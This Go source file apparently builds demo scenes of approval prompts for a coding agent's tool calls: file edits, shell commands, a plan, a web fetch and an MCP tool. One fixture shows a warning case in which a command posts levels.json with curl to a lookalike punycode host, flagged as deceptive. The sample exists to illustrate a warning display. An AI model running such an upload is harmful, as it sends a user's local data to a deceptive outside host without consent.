package gallery

import (
	"pollux/internal/face/kit"
	"pollux/tool"
)

// questionScenes returns the scenes of questions about calls.
func questionScenes() []Scene {
	return []Scene{
		{"question-edit", func(s *stage) { s.ask(editQuestion(), true) }},
		{"question-new-file", func(s *stage) {
			s.ask(&tool.EditConfirmation{Title: "Confirm Write: internal/tide/zone_test.go", DiffDisplay: fileChange(), Modifiable: true, Approval: offers("", "")}, true)
		}},
		{"question-command", func(s *stage) { s.ask(shellQuestion(), true) }},
		{"question-command-warnings", func(s *stage) { s.ask(riskyQuestion(), true) }},
		{"question-command-again", func(s *stage) {
			q := shellQuestion()
			q.Approval = tool.Approval{IsRetry: true, Reason: "The sandbox has blocked a write to ~/.cache/go-build."}
			s.ask(q, true)
		}},
		{"question-fetch", func(s *stage) { s.ask(fetchQuestion(), true) }},
		{"question-server", func(s *stage) { s.ask(serverQuestion(), true) }},
		{"question-plan", func(s *stage) {
			s.ask(&tool.PlanConfirmation{Title: "Plan Approval", Path: work + "/plans/zones.md", Plan: planText}, true)
		}},
		{"question-explained", func(s *stage) { s.ask(shellQuestion(), true, "down", "?") }},
		{"question-refused", func(s *stage) { s.ask(editQuestion(), true, "5", "Keep the field Offset for old files.") }},
		{"question-of-agent", func(s *stage) {
			q := kit.NewQuestion(shellQuestion(), true, names{})
			q.Agent, q.Number, q.Count = "reviewer", 2, 3
			s.askAs(q)
		}},
	}
}

const planText = `# Time zones of stations

1. Store the **name** of the zone in ` + "`Station`" + `.
2. Convert when a table is printed.
3. Add a test for 29 March and 25 October.

The importer stays as it is.`

// offers returns an approval that can last, with the rule that it makes.
func offers(rule, file string) tool.Approval {
	a := tool.Approval{Offers: []tool.Offer{{Outcome: tool.ProceedAlways, Rule: rule}}}
	if file != "" {
		a.Offers = append(a.Offers, tool.Offer{Outcome: tool.ProceedAlwaysAndSave, Rule: rule, SavedIn: file})
	}
	return a
}

func editQuestion() *tool.EditConfirmation {
	return &tool.EditConfirmation{Title: "Confirm Edit: internal/tide/station.go", DiffDisplay: zoneChange(), Modifiable: true, Approval: offers("", "")}
}

func shellQuestion() *tool.ExecConfirmation {
	a := offers("go test", "~/.gemini/policies/auto-saved.toml")
	a.Reason, a.IsUsual = "The approval mode is default.", true
	return &tool.ExecConfirmation{Title: "Confirm Shell Command", Command: "go test ./internal/tide/...", Roots: []string{"go"}, Approval: a}
}

// riskyQuestion asks about a command with much that a person should see.
func riskyQuestion() *tool.ExecConfirmation {
	a := offers("make, curl", "")
	a.Reach = tool.Reach{
		Commands: []tool.ShellCommand{{Program: "make", Text: "make stations", Times: 1}, {Program: "curl", Text: "curl -d @levels.json http://mira@xn--tideine-qjb.example/", Times: 2}},
		Total:    3, Writes: []string{"levels.json", "../levels.log"}, Outside: []string{home + "/levels.log"},
		Servers: []tool.Server{{URL: "http://mira@tidełine.example/", Host: "xn--tideine-qjb.example", Readable: "tidełine.example", IsLookalike: true, HasUser: true}},
	}
	a.Quoted = "README.md"
	a.Hooked = tool.Hooked{IsRequired: true, IsChanged: true, Message: "Uploads need a ticket.\nAsk in #harbour."}
	return &tool.ExecConfirmation{
		Title: "Confirm Shell Command", Command: "make stations >levels.json 2>../levels.log &&\n  curl -d @levels.json http://mira@xn--tideine-qjb.example/",
		Roots: []string{"make", "redirection (>)", "curl"}, UntrustedFlags: []string{"--data"}, ModifiedBuildFiles: []string{"Makefile"}, Approval: a,
	}
}

func fetchQuestion() *tool.InfoConfirmation {
	const url = "https://tideline.example/stations/anselm"
	a := offers("tideline.example", "")
	a.Servers = []tool.Server{{URL: url, Host: "tideline.example", Readable: "tideline.example"}}
	return &tool.InfoConfirmation{Title: "Confirm Web Fetch", Prompt: "Which time zone does " + url + " name for Port Anselm?", URLs: []string{url}, Approval: a}
}

func serverQuestion() *tool.RemoteConfirmation {
	return &tool.RemoteConfirmation{
		Title: "Confirm MCP Tool", Server: "weather", Tool: "forecast", DisplayName: "forecast",
		Args: []byte(`{"place": "Port Anselm", "days": 3, "fields": ["wind", "pressure"]}`),
		Approval: tool.Approval{Offers: []tool.Offer{
			{Outcome: tool.ProceedAlwaysTool, Rule: "forecast of weather"}, {Outcome: tool.ProceedAlwaysServer, Rule: "all tools of weather"},
		}},
	}
}
